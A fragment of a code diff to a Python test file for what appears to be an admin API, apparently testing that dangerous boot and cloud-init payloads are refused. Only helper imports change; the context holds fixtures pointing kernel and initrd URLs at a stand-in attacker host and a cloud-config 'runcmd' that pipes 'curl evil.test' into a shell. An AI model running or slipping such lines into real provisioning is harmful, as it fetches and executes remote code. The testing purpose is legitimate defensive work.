@@ -9,7 +9,8 @@ payload routes themselves answered 403.
 import httpx
 import pytest
 
-from tests.admin.conftest import create, problem_of, token_for
+from tests.helpers.api import create, problem_of
+from tests.helpers.tokens import token_for
 
 BOOT = {"kernel": "http://evil.test/vmlinuz", "initrd": "http://evil.test/initrd", "cmdline": "init=/evil"}
 CLOUD = {"userData": "#cloud-config\nruncmd: [curl evil.test | sh]\n"}
